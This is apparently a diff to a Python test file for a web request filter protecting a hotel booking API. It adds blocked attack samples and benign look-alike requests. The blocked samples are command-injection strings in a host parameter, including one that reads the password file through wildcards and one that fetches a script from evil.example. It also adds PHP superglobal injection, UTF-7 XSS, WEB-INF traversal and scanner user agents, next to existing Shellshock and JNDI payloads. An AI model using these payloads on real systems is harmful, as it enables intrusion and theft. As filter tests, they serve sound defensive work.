@@ -86,6 +86,16 @@ BLOCKED: list[tuple[str, dict[str, Any]]] = [
     ("rce-shellshock", {"headers": {"User-Agent": "() { :; }; echo vulnerable"}}),
     ("rce-template-injection", {"params": {"q": "{{ config.__class__.__init__.__globals__ }}"}}),
     ("rce-template-injection", {"headers": {"Cookie": "x=${jndi:ldap://evil.example/a}"}}),
+    ("rce-command-chain", {"params": {"host": "127.0.0.1\nid"}}),
+    ("rce-recon-or-decode", {"params": {"host": "127.0.0.1; which nc"}}),
+    ("rce-recon-or-decode", {"params": {"host": "x|base64 -d"}}),
+    ("rce-recon-or-decode", {"params": {"cmd": "& Invoke-WebRequest http://evil.example/a.ps1"}}),
+    ("rce-wildcard-path", {"params": {"host": "127.0.0.1;/???/c?t /???/p?ss??"}}),
+    ("php-superglobal", {"path": "/index.php/$_GET[cmd]"}),
+    ("php-superglobal", {"method": "POST", "data": {"x": "$_SERVER['argv']"}}),
+    ("xss-utf7", {"params": {"q": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"}}),
+    ("traversal-sensitive-file", {"params": {"page": "WEB-INF/web.xml"}}),
+    ("scanner-user-agent", {"headers": {"User-Agent": "jbrofuzz/2.5"}}),
     ("scanner-user-agent", {"headers": {"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}}),
     ("scanner-user-agent", {"headers": {"User-Agent": "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"}}),
     ("scanner-user-agent", {"headers": {"User-Agent": "Mozilla/5.0 (compatible; Nmap Scripting Engine)"}}),
@@ -97,6 +107,9 @@ UUID = str(uuid.UUID("6f1c2a9e-0b3d-4c5e-9a8b-7c6d5e4f3a2b"))
 
 # Requests of the booking flow and prose that looks a little like an attack.
 BENIGN: list[dict[str, Any]] = [
+    {"path": "/api/search/hotels", "params": {"q": "Rooms; which are quiet? A/B floors, 50% off*"}},
+    {"path": "/api/reservations/reservations", "method": "POST",
+     "json": {"note": "Bring your passport.\nID card also accepted", "extras": "+ADD-ON breakfast"}},
     {"path": "/api/search/hotels", "params": {"city": "O'Brien"}},
     {"path": "/api/search/cities", "params": {"prefix": "L'Aquila"}},
     {"path": "/api/search/hotels", "params": {"city": "Val-d'Isère", "checkin": "2026-12-01", "checkout": "2026-12-05",
